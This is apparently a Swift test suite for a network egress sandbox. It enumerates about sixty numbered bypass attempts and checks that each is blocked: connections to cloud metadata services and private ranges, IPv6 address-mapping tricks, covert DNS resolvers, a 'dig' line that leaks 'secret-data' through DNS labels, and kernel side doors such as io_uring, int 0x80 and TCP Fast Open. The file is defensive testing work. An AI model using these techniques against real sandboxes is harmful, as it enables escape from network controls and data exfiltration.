// SPDX-License-Identifier: Apache-2.0

import TestSupport
import Testing

private let attack = "/usr/bin/python3 $WORLD/programs/attack.py"
private let denied = EndToEnd.deniedAddress
private let allowed = EndToEnd.allowedAddress

/// The numbers are those of the forty bypass attempts that the design lists.
private func tcp(_ title: String, _ address: String, _ port: Int = 4444) -> Attempt {
    Attempt(title: title, line: "\(attack) tcp \(address) \(port)")
}

private let addresses = [
    tcp("1 a public address", denied),
    tcp("2 the metadata service", "169.254.169.254", 80),
    tcp("2 the metadata service over IPv6", "fd00:ec2::254", 80),
    tcp("2 another cloud's metadata service", "100.100.100.200", 80),
    tcp("3 the local network, 10/8", "10.0.0.5", 80),
    tcp("3 the local network, 172.16/12", "172.16.0.5", 80),
    tcp("3 the local network, 192.168/16", "192.168.1.10", 80),
    tcp("3 the host's loopback", "127.0.0.1"),
    tcp("3 another loopback address of the host", "127.0.0.2"),
    tcp("3 the host's IPv6 loopback", "::1"),
    tcp("4 an allowed address, another port", allowed),
    tcp("5 a public IPv6 address", "2606:50c0:8000::153"),
    tcp("6 IPv4-mapped", "::ffff:10.0.0.5"),
    tcp("6 IPv4-mapped metadata", "::ffff:169.254.169.254", 80),
    tcp("7 NAT64", "64:ff9b::a00:5"),
    tcp("7 NAT64 for local use", "64:ff9b:1::a00:5"),
    tcp("8 6to4", "2002:a00:5::1"),
    tcp("8 Teredo", "2001:0:5db8:d822::f5ff:fffa"),
    tcp("8 IPv4-compatible", "::10.0.0.5"),
    tcp("8 documentation", "2001:db8::5"),
    tcp("8 unique local", "fd00::5"),
    Attempt(title: "9 link-local with a zone", line: "\(attack) scoped fe80::5 4444 lo"),
    tcp("10 the unspecified address", "0.0.0.0"),
    tcp("10 the unspecified IPv6 address", "::"),
    tcp("15 DNS over TLS", "1.1.1.1", 853),
    tcp("15 DNS over HTTPS", "1.1.1.1", 443),
    tcp("15 DNS over HTTPS, IPv6", "2606:4700:4700::1111", 443),
]

private let datagrams = [
    Attempt(title: "1 a datagram", line: "\(attack) udp-connected \(denied) 4444"),
    Attempt(title: "3 a datagram to the local network", line: "\(attack) udp-connected 10.0.0.5 4444"),
    Attempt(title: "3 a datagram to the host's loopback", line: "\(attack) udp-connected 127.0.0.1 4444"),
    Attempt(title: "4 a datagram to an allowed address", line: "\(attack) udp-connected \(allowed) 4444"),
    Attempt(title: "5 a datagram over IPv6", line: "\(attack) udp-connected 2606:50c0:8000::153 4444"),
    Attempt(title: "6 a datagram to a mapped address", line: "\(attack) udp-connected ::ffff:10.0.0.5 4444"),
    Attempt(title: "QUIC", line: "\(attack) udp-connected \(denied) 443"),
    Attempt(title: "25 an unconnected datagram", line: "\(attack) udp \(denied) 4444", ending: .answered),
    Attempt(
        title: "24 a datagram socket that is connected again",
        line: "\(attack) udp-dissolved \(allowed) 7002 \(denied) 4444",
        policy: EndToEnd.policy + ["--allow", "\(allowed):7002"],
        ending: .answered
    ),
    Attempt(
        title: "25 a connected datagram socket that sends elsewhere",
        line: "\(attack) udp-elsewhere \(allowed) 7002 \(denied) 4444",
        policy: EndToEnd.policy + ["--allow", "\(allowed):7002"],
        ending: .answered
    ),
    Attempt(title: "25 packet info", line: "\(attack) udp-packet-info \(denied) 4444", ending: .answered),
    Attempt(title: "15 a resolver of its own", line: "\(attack) dns-udp 8.8.8.8", ending: .answered),
    Attempt(title: "15 a resolver over IPv6", line: "\(attack) dns-udp 2606:4700:4700::1111", ending: .answered),
    Attempt(title: "15 a resolver over TCP", line: "\(attack) dns-tcp 9.9.9.9", ending: .answered),
    Attempt(
        title: "16 data in the labels of a denied name",
        line: "dig +tries=1 +time=1 @8.8.8.8 secret-data.denied.example",
        ending: .answered
    ),
]

private let doors = [
    Attempt(title: "17 sendto with MSG_FASTOPEN", line: "connect-static fastopen-sendto \(denied) 4444"),
    Attempt(title: "17 sendmsg with MSG_FASTOPEN", line: "connect-static fastopen-sendmsg \(denied) 4444"),
    Attempt(title: "17 sendmmsg with MSG_FASTOPEN", line: "connect-static fastopen-sendmmsg \(denied) 4444"),
    Attempt(title: "18 TCP_FASTOPEN_CONNECT", line: "connect-static fastopen-option \(denied) 4444"),
    Attempt(title: "19 io_uring", line: "uring-glibc \(denied) 4444"),
    Attempt(title: "20 int 0x80 connect", line: "compat-glibc int80 \(denied) 4444"),
    Attempt(title: "20 int 0x80 socketcall", line: "compat-glibc socketcall \(denied) 4444"),
    Attempt(
        title: "22 the address is rewritten meanwhile",
        line: "race-glibc \(allowed) \(denied) 80",
        ending: .answered
    ),
    Attempt(title: "24 AF_UNSPEC and then elsewhere", line: "connect-static dissolved \(denied) 4444"),
    Attempt(
        title: "26 shadowing an allowed port",
        line: "\(attack) shadow \(allowed) 9443 \(denied)",
        policy: ["-q", "--allow", "allowed.example:9443"]
    ),
    Attempt(title: "27 MPTCP", line: "connect-static multipath \(denied) 4444"),
    Attempt(title: "27 a raw socket", line: "\(attack) raw-udp \(denied) 4444", accounts: [.root]),
    Attempt(title: "31 an abstract socket of the host", line: "\(attack) abstract egress-canary"),
    Attempt(
        title: "33 an inherited socket",
        line: "\(attack) inherited 7 \(denied) 4444",
        under: ["/usr/bin/python3", "$WORLD/programs/inherit.py", "7"]
    ),
    Attempt(
        title: "33 an inherited socket as standard input",
        line: "\(attack) inherited 0 \(denied) 4444",
        ending: .refused,
        under: ["/usr/bin/python3", "$WORLD/programs/inherit.py", "0"]
    ),
    Attempt(title: "40 a process that leaves the session", line: "setsid -w \(attack) tcp \(denied) 4444"),
    Attempt(title: "40 a grandchild", line: "sh -c '(\(attack) tcp \(denied) 4444; exit $?); exit $?'; exit $?"),
    Attempt(title: "40 without an environment", line: "env -i $WORLD/bin/connect-musl plain \(denied) 4444"),
]

extension EndToEnd {
    @Suite(.serialized) struct Attacks {
        @Test(arguments: addresses.rows)
        func `no connection reaches an address that was not allowed`(_ row: Row) throws {
            try row.expectHeld()
        }

        @Test(arguments: datagrams.rows)
        func `no datagram reaches an address that was not allowed`(_ row: Row) throws {
            try row.expectHeld()
        }

        @Test(arguments: doors.rows)
        func `no side door of the kernel leads out`(_ row: Row) throws {
            try row.expectHeld()
        }
    }
}
